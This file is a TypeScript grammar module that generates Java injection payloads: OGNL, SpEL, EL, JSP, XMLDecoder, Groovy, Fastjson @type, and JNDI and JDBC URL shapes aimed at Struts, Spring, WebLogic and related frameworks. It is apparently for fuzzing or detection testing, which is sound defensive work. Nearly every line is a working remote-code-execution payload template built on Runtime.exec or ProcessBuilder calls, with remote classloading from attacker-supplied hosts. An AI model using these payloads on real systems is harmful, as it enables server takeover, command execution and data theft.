/** Java: expression languages, class loaders, scripts; the shapes of Struts, Spring, WebLogic and their kin. */
import { lines, type Rules, words } from "../lib/grammar.ts";

export const JAVA: Rules = {
  javaclass: words`
    java.lang.Runtime java.lang.Runtime java.lang.ProcessBuilder java.lang.System java.lang.Class java.lang.Thread java.lang.ClassLoader java.lang.ProcessImpl
    java.io.File java.io.FileInputStream java.io.FileOutputStream java.io.FileWriter java.io.BufferedReader java.io.ObjectInputStream java.io.InputStreamReader java.io.PrintWriter
    java.net.URL java.net.URLClassLoader java.net.Socket java.net.InetAddress java.util.Scanner java.util.HashMap java.util.PriorityQueue java.util.Base64
    java.beans.EventHandler java.beans.XMLDecoder javax.script.ScriptEngineManager javax.naming.InitialContext javax.management.BadAttributeValueExpException
    java.lang.UNIXProcess java.lang.reflect.Method java.lang.reflect.Proxy java.rmi.server.UnicastRemoteObject java.sql.DriverManager javax.el.ELProcessor
    com.sun.rowset.JdbcRowSetImpl com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl com.sun.org.apache.bcel.internal.util.ClassLoader sun.misc.Unsafe
    org.apache.commons.collections.functors.InvokerTransformer org.apache.commons.collections4.functors.ChainedTransformer org.apache.commons.io.IOUtils
    org.springframework.context.support.ClassPathXmlApplicationContext org.springframework.context.support.FileSystemXmlApplicationContext
    org.apache.struts2.ServletActionContext org.codehaus.groovy.runtime.MethodClosure clojure.core$comp com.opensymphony.xwork2.dispatcher.HttpServletRequest
    freemarker.template.utility.Execute ognl.OgnlContext com.mchange.v2.c3p0.WrapperConnectionPoolDataSource org.hibernate.jmx.StatisticsService bsh.Interpreter
    groovy.lang.GroovyShell jdk.jshell.JShell org.mozilla.javascript.Context org.yaml.snakeyaml.Yaml weblogic.work.ExecuteThread`,
  javacmd: [
    '"«look»"',
    "'«look»'",
    '"«unix»"',
    'new String[]{"/bin/sh","-c","«look»"}',
    'new String[]{"cmd","/c","«winlook»"}',
    '"«winlook»"',
    "'«net»'",
    "«rnd»",
    "#cmd",
    "param.«rnd»",
  ],
  java: lines`
    «javaclass»
    «javaclass»
    T(java.lang.Runtime).getRuntime().exec(«javacmd»)
    \${T(java.lang.Runtime).getRuntime().exec(«javacmd»)}
    #{T(java.lang.Runtime).getRuntime().exec(«javacmd»)}
    *{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec(«javacmd»).getInputStream())}
    T(«javaclass»).«getProperties|getenv|forName|load|newInstance»(«q»«rnd»«q»)
    \${T(«javaclass»)}
    new «javaclass»(«javacmd»).start()
    new java.lang.ProcessBuilder(«javacmd»).start()
    @java.lang.Runtime@getRuntime().exec(«javacmd»)
    @org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(«javacmd»).getInputStream())
    @«javaclass»@«rnd»(«javacmd»)
    Runtime.getRuntime().exec(«javacmd»)
    java.lang.Runtime.getRuntime().exec(«javacmd»);
    \${Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec(«javacmd»)}
    \${''.getClass().forName('«javaclass»').«getMethods()[«digit»]|getDeclaredConstructors()|newInstance()»}
    ''.class.forName('«javaclass»').newInstance().eval(«javacmd»)
    \${"".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js").eval("java.lang.Runtime.getRuntime().exec(\"«look»\")")}
    %{«int»*«int»}
    %{«ognl»}
    %{«ognl»}
    \${«ognl»}
    \${(«ognl»)}
    («ognl»)
    #«v=rnd2»=«ognlstep»,#«$v».«rnd»
    «rnd»%{«int»+«int»}
    redirect:%{«ognl»}
    redirect:\${#«v=letter»=(new java.lang.ProcessBuilder(new java.lang.String[]{«q»«look»«q»})).start()}
    «action|redirectAction|redirect»:\${«ognl»}
    «action|redirectAction»:%{«int»*«int»}
    method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,%23a%3d@java.lang.Runtime@getRuntime().exec(%23parameters.cmd[0])
    \u0023«session.user|_memberAccess|context|application»\u003d\u0027«rnd»\u0027
    ('\u0023_memberAccess[\'allowStaticMethodAccess\']')(«rnd»)=true
    (#«rnd2»)(«ognlstep»)
    class.«classmodule»classLoader.«loaderprop»
    class.«classmodule»classLoader.«loaderprop»=«rnd»
    class['classLoader']['«resources|parent|urls»'][«digit»]
    class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{«rnd»}i <% «rnd» %>
    top['class'].classLoader.resources
    object.class.forName('«javaclass»')
    #context['xwork.MethodAccessor.denyMethodExecution']=false
    #_memberAccess['allowStaticMethodAccess']=true
    #application.get('«javaclass»')
    (#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)
    #_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,@java.lang.Runtime@getRuntime().exec(«javacmd»)
    (#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']))).(#cmd='«look»').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())
    spring.cloud.function.routing-expression:T(java.lang.Runtime).getRuntime().exec(«javacmd»)
    <% Runtime.getRuntime().exec(request.getParameter("«rnd»")); %>
    <%@ page import="java.«util|io|lang».*" %><% «javaclass» %>
    <%= System.getProperty("«user.dir|java.version|os.name|user.name»") %>
    <% out.println(«int»*«int»); %>
    <jsp:«include|forward|scriptlet»«_»page=«qq»«unixfile»«qq» />
    \${pageContext.«request|servletContext»«|.getSession()|.getClass()»}
    \${«applicationScope|sessionScope|requestScope|param|header|initParam|facesContext|request|session»«.«rnd»|»}
    \${«param|header».«rnd».getClass()}
    \${facesContext.getExternalContext().redirect("«url»")}
    \u0024\u007b«int»*«int»\u007d
    <java«| version="1.8" class="java.beans.XMLDecoder"»><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>«look»</string></void></array><void method="start"/></object></java>
    javax.script.ScriptEngineManager
    «q».execute().text
    «q»«look»«q».execute().text
    def cmd = «q»«look»«q».execute()
    println «q»«look»«q».execute().text
    @groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec(«javacmd»)})
    @GrabConfig(disableChecksums=true) @GrabResolver(name='«rnd»', root='http://«host»/')
    this.engine.factory.scriptEngine.eval('«javacmd»')
    getClass().forName('«javaclass»')
    getRuntime().exec(«javacmd»)
    processbuilder|«look»
    rmi://«host»:«port»/«rnd»
    jdbc:h2:mem:«rnd»;«TRACE_LEVEL_SYSTEM_OUT=3;|»INIT=RUNSCRIPT FROM '«url»'
    jdbc:mysql://«host»:«port»/«rnd»?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor
    jdbc:«postgresql|derby|db2|hsqldb»://«host»/«rnd»?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=«url»
    {"@type":"«javaclass»","dataSourceName":"«rmi|ldap»://«host»/«rnd»","autoCommit":true}
    {"«rnd»":{"@type":"java.«net.Inet4Address|lang.Class|net.URL»","val":"«host»"}}
    ["«javaclass»",{"«rnd»":"«rnd»"}]`,
  ognl: [
    "#«v=rnd2»=«ognlstep»,#«$v».«rnd»()",
    "(«ognlstep»).(«ognlstep»)",
    "(#«letter»=«ognlstep»).(#«letter»=«ognlstep»)",
    '#context["com.opensymphony.xwork2.dispatcher.HttpServletResponse"].addHeader("«rnd»",«int»*«int»)',
    "«int»*«int»",
    "«ognlstep»",
    "@java.lang.Runtime@getRuntime().exec(«javacmd»)",
    "new java.util.Scanner(new java.lang.ProcessBuilder(«javacmd»).start().getInputStream()).next()",
  ],
  ognlstep: [
    "@java.lang.Runtime@getRuntime().exec(«javacmd»)",
    "@java.lang.System@getProperty('«rnd»')",
    "new java.lang.ProcessBuilder(«javacmd»)",
    "@org.apache.struts2.ServletActionContext@getResponse()",
    "#context.get('«javaclass»')",
    '#_memberAccess["allowStaticMethodAccess"]=true',
    "#cmd='«look»'",
    "#«rnd2».start()",
    "#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream())",
    "#request['«rnd»']",
    "#attr['struts.valueStack'].context",
    "@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS",
    "#f=#_memberAccess.getClass().getDeclaredField('allowStaticMethodAccess')",
    "#f.setAccessible(true)",
  ],
  classmodule: ["module.", "module.", "", "protectionDomain."],
  loaderprop: [
    "resources.context.parent.pipeline.first.«pattern|suffix|directory|prefix|fileDateFormat»",
    "resources.dirContext.docBase",
    "URLs[0]",
    "URLs[«digit»]",
    "parent",
    "defaultAssertionStatus",
    "jarPath",
    "resources.context.parent.appBase",
    "DefaultAssertionStatus",
  ],
};
